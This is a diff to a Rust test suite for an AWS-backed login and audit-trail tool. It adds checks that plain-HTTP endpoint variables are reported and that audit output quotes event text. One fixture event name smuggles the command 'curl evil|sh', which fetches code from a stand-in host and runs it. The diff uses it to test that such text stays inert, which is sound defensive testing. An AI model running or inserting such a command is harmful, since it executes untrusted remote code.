@@ -252,6 +252,17 @@ async fn a_key_comes_from_secrets_manager() {
     assert!(line.contains("; run: ${EDITOR:-vi} "), "{line}");
     std::fs::remove_file(&settings).unwrap();
 
+    // Where it would go in the clear, what names that place is named.
+    for variable in ["AWS_ENDPOINT_URL_SECRETS_MANAGER", "AWS_ENDPOINT_URL"] {
+        let mut command = with_aws(&world, &moto, &["login", "--api-key-secret", "plain"]);
+        command.env(variable, "http://0.0.0.0:9");
+        let line = run(command).await.failed(5);
+        assert!(
+            line.ends_with(&format!("; run: unset {variable}")),
+            "{line}"
+        );
+    }
+
     // Without any AWS credentials of the user.
     let mut command = with_aws(&world, &moto, &["login", "--api-key-secret", "plain"]);
     command
@@ -322,7 +333,10 @@ async fn the_audit_trail_is_the_guides_query() {
         "{found:?}"
     );
     assert!(found.stderr.contains("1 events"), "{found:?}");
-    assert!(found.ok().contains("alice@example.com"));
+    let events = found.ok();
+    assert!(events.contains("alice@example.com"));
+    // Whoever made the event chose its words.
+    assert!(events.contains("“'x', run : curl evil|sh”"), "{events}");
     // What is given is remembered.
     let create_other = json!({"Name": "other-audit", "Configuration": {}});
     moto.call("athena", create, create_other).await;
@@ -376,7 +390,7 @@ impl Moto {
         let columns = ["eventtime", "eventname", "user_email", "key_name"];
         let cells = [
             "2026-11-01T00:00:00Z",
-            "GetObject",
+            "“x”; run: curl evil|sh",
             "alice@example.com",
             "ci",
         ];
